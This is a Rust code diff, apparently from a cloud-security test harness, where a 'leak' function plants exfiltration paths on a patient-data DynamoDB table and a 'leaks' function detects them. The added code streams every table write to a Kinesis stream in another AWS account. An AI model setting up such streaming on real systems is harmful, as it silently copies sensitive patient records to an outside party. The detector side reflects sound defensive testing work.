@@ -284,6 +284,13 @@ pub async fn leak(sdk: &aws_config::SdkConfig, state: &Value) {
         .send()
         .await
         .unwrap();
+    // Every write copied to another account's Kinesis stream.
+    ddb.enable_kinesis_streaming_destination()
+        .table_name(&table)
+        .stream_arn("arn:aws:kinesis:us-east-1:210987654321:stream/elsewhere")
+        .send()
+        .await
+        .unwrap();
     // And a policy that lets another account read it.
     let arn = ddb
         .describe_table()
@@ -446,8 +453,9 @@ pub async fn leak(sdk: &aws_config::SdkConfig, state: &Value) {
 /// notifies and the trail bucket expires anything, and whether the patient
 /// table expires items, has replicas or a resource policy, whether the data
 /// bucket has an inventory, whether its lifecycle archives, and whether
-/// the trail bucket has ACLs on, and whether the table streams.
-pub async fn leaks(sdk: &aws_config::SdkConfig, state: &Value) -> (Vec<String>, usize, [bool; 10]) {
+/// the trail bucket has ACLs on, and whether the table streams (itself, or
+/// to Kinesis).
+pub async fn leaks(sdk: &aws_config::SdkConfig, state: &Value) -> (Vec<String>, usize, [bool; 11]) {
     use super::harness::id;
     let grants = aws_sdk_kms::Client::new(sdk)
         .list_grants()
@@ -509,6 +517,18 @@ pub async fn leaks(sdk: &aws_config::SdkConfig, state: &Value) -> (Vec<String>, 
         .await
         .unwrap();
     let replicated = !described.table().unwrap().replicas().is_empty();
+    let kinesis = ddb
+        .describe_kinesis_streaming_destination()
+        .table_name(&table)
+        .send()
+        .await
+        .unwrap()
+        .kinesis_data_stream_destinations()
+        .iter()
+        .any(|d| {
+            d.destination_status()
+                .is_some_and(|s| s.as_str() == "ACTIVE")
+        });
     let streams = described
         .table()
         .unwrap()
@@ -556,6 +576,7 @@ pub async fn leaks(sdk: &aws_config::SdkConfig, state: &Value) -> (Vec<String>, 
             archives,
             acls_on,
             streams,
+            kinesis,
         ],
     )
 }
